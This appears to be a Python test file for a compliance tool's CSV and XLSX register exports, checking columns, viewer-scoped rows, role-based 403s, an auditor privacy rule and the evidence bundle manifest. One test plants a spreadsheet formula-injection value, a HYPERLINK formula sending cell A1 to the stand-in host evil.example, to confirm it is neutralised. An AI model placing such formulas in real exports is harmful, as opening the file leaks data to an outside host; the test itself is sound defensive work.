"""t_exports.py — every register exports as CSV and XLSX (GET /:type/export
?format=csv|xlsx, src/report/registers.c report_register): each list page has
its CSV and XLSX buttons (and PDF where a printable report of the type
exists); the CSV parses with Python's csv module into the list page's
columns (ID and the listed fields, by label) and exactly the rows the viewer
sees — the API list's identifiers, as that viewer; the XLSX (read from its
sheet XML, no spreadsheet library) holds the same cells, all text, no
formula; a title starting with "=" is neutralised in the CSV (a leading
apostrophe) and stays text in the XLSX; staff get 403 for the registers
their role may not read and only their own rows of the ones they may; the
external auditor's export leaves out other people's competence evidence
(the privacy rule); bad input is refused naming the field; the evidence
bundle holds registers/assets.csv and registers/assets.xlsx, listed in its
manifest."""
import csv
import io
import json
import re
import zipfile
import xml.etree.ElementTree as ET

from harness import *

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def xlsx_rows(body):
    """The first sheet's rows as lists of text (shared or inline strings),
    and whether any cell holds a formula."""
    z = zipfile.ZipFile(io.BytesIO(body))
    shared = []
    if "xl/sharedStrings.xml" in z.namelist():
        for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall("m:si", NS):
            shared.append("".join(t.text or "" for t in si.iter("{%s}t" % NS["m"])))
    sheet = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    rows, formula = [], False
    for row in sheet.iter("{%s}row" % NS["m"]):
        cells = {}
        for c in row.findall("m:c", NS):
            col = re.match(r"[A-Z]+", c.get("r")).group(0)
            idx = 0
            for ch in col:
                idx = idx * 26 + ord(ch) - 64
            formula = formula or c.find("m:f", NS) is not None
            v = c.find("m:v", NS)
            if c.get("t") == "s" and v is not None:
                cells[idx - 1] = shared[int(v.text)]
            elif c.get("t") == "inlineStr":
                cells[idx - 1] = "".join(t.text or "" for t in c.iter("{%s}t" % NS["m"]))
            else:
                cells[idx - 1] = v.text if v is not None else ""
        width = max(cells) + 1 if cells else 0
        rows.append([cells.get(i, "") for i in range(width)])
    return rows, formula


def csv_rows(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def unneutralise(cell):
    return cell[1:] if cell[:2] in ("'=", "'+", "'-", "'@") else cell


def main():
    f = demo_file("exports.isms")
    mgr, staff = f.accounts["manager"], f.accounts["staff"]
    srv = Server(f.path, threads=2)
    c = Client(srv)
    c.login_as(mgr)
    mapi = Api(srv, f.token(mgr.name, "m"))

    note("every list page offers CSV and XLSX; PDF where a printable report exists")
    printable = {"asset": "/assets/print", "risk": "/risks/print", "action": "/plan/print",
                 "control": "/soa/print"}
    for t in f.types():
        p = plural(t)
        r = c.get("/" + p)
        export = "/risks/export" if t == "risk" else "/%s/export" % p
        check(r.status == 200 and 'href="%s?format=csv"' % export in r.text and
              'href="%s?format=xlsx"' % export in r.text,
              "/%s has the CSV and XLSX buttons" % p, r.describe)
        if t in printable:
            check('href="%s?format=pdf"' % printable[t] in r.text,
                  "/%s has the PDF button" % p)
        else:
            check("/print?format=pdf" not in r.text, "/%s has no PDF button (no report)" % p)

    note("the CSV is the list page's columns and the viewer's rows; the XLSX the same cells")
    for t in ("asset", "supplier", "incident", "nonconformity", "document", "person",
              "qualification", "control"):
        p = plural(t)
        labels = ["ID"] + [fd["label"] for fd in f.fields(t) if fd.get("listed")]
        want = sorted(x["id"] for x in api_all(mapi, p))
        r = c.get("/%s/export?format=csv" % p)
        check(r.status == 200 and (r.header("Content-Type") or "").startswith("text/csv") and
              (r.header("Content-Disposition") or "").startswith("attachment;") and
              ("%s.csv" % p) in (r.header("Content-Disposition") or ""),
              "/%s/export?format=csv is a CSV download" % p, r.describe)
        rows = csv_rows(r.text)
        check(rows and rows[0] == labels, "%s: the header is the list page's columns" % t,
              rows[:1])
        check_eq(sorted(row[0] for row in rows[1:]), want,
                 "%s: the CSV rows are the records the manager sees" % t)
        check(all(len(row) == len(labels) for row in rows), "%s: every row is complete" % t)
        r = c.get("/%s/export?format=xlsx" % p)
        check(r.status == 200 and r.body.startswith(b"PK") and
              ("%s.xlsx" % p) in (r.header("Content-Disposition") or ""),
              "/%s/export?format=xlsx is an XLSX download" % p, r.describe)
        xrows, formula = xlsx_rows(r.body)
        check(not formula, "%s: no cell of the XLSX is a formula" % t)
        norm = lambda rs: [[unneutralise(x) for x in row] + [""] * (len(labels) - len(row))
                           for row in rs]
        check_eq(norm(xrows), norm(rows), "%s: the XLSX holds the CSV's cells" % t)
    # a reference reads with its title
    rows = csv_rows(c.get("/assets/export?format=csv").text)
    owner = rows[0].index("Owner")
    a1 = [row for row in rows if row[0] == "A-0001"][0]
    p1 = f.show(f.show("A-0001")["owner"])
    check_eq(a1[owner], "%s (%s)" % (p1["name"], p1["id"]), "the owner reads by name and id")

    note("a title that starts with = is neutralised")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    sid = f.add("supplier", name=evil, criticality="low", owner=mgr.person)
    rows = csv_rows(c.get("/suppliers/export?format=csv").text)
    row = [x for x in rows if x[0] == sid][0]
    check_eq(row[1], "'" + evil, "the CSV cell is prefixed with an apostrophe")
    xrows, formula = xlsx_rows(c.get("/suppliers/export?format=xlsx").body)
    xrow = [x for x in xrows if x and x[0] == sid][0]
    check(xrow[1] in (evil, "'" + evil) and not formula,
          "the XLSX cell is the text, never a formula", xrow)
    for v in ("+1+1", "-2+3", "@SUM(A1)"):
        aid = f.add("asset", name=v, kind="hardware", owner=mgr.person)
        rows = csv_rows(c.get("/assets/export?format=csv").text)
        check_eq([x for x in rows if x[0] == aid][0][1], "'" + v,
                 "a name starting with %s is neutralised" % v[0])

    note("staff: 403 for the registers their role may not read; their own rows of the others")
    s = Client(srv)
    s.login_as(staff)
    sapi = Api(srv, f.token(staff.name, "s"))
    for p in ("assets", "suppliers", "nonconformities", "people", "controls", "risks"):
        for fmt in ("csv", "xlsx"):
            path = ("/risks/export" if p == "risks" else "/%s/export" % p) + "?format=" + fmt
            r = s.get(path)
            check(r.status == 403 and not r.body.startswith(b"PK") and "ID," not in r.text,
                  "staff may not download " + path, r.describe)
    for p in ("incidents", "documents", "qualifications"):
        rows = csv_rows(s.get("/%s/export?format=csv" % p).text)
        check_eq(sorted(x[0] for x in rows[1:]), sorted(x["id"] for x in api_all(sapi, p)),
                 "staff's %s export holds what staff see" % p)
    check(len(api_all(mapi, "incidents")) > len(api_all(sapi, "incidents")),
          "(staff see fewer incidents than the manager)")

    note("the external auditor: the privacy rule applies to its exports")
    x = Client(srv)
    x.login_as(f.external)
    rows = csv_rows(x.get("/qualifications/export?format=csv").text)
    check(rows and len(rows) == 1, "no one else's competence evidence in its export", rows[:3])
    rows = csv_rows(x.get("/audits/export?format=csv").text)
    check(len(rows) > 1, "it exports the audits")

    note("bad input is refused, naming the field")
    for path in ("/assets/export", "/assets/export?format=pdf", "/assets/export?format="):
        r = c.get(path)
        check(r.status == 400 and "format" in r.text, path + " is refused (400, format)",
              r.describe)
    check_status(c.get("/nothings/export?format=csv"), 404, "an unknown register")

    note("the evidence bundle holds the asset inventory as CSV and XLSX")
    r = c.get("/bundle")
    check_status(r, 200, "the bundle downloads")
    z = zipfile.ZipFile(io.BytesIO(r.body))
    names = z.namelist()
    check("registers/assets.csv" in names and "registers/assets.xlsx" in names,
          "registers/assets.csv and assets.xlsx are in the bundle",
          [n for n in names if n.startswith("registers/")])
    man = json.loads(z.read("manifest.json"))
    listed = {e["path"]: e for e in man["files"]}
    for n in ("registers/assets.csv", "registers/assets.xlsx"):
        e = listed.get(n) or {}
        check(e.get("kind") == "register" and e.get("size") == len(z.read(n)) and
              e.get("sha256") == hashlib.sha256(z.read(n)).hexdigest(),
              n + " is in the manifest with its size and SHA-256", e)
    rows = csv_rows(z.read("registers/assets.csv").decode("utf-8"))
    check_eq(sorted(x[0] for x in rows[1:]), sorted(a["id"] for a in api_all(mapi, "assets")),
             "the bundled CSV holds every asset")
    check(srv.alive(), "the server is still up")
    srv.stop()


run(main)
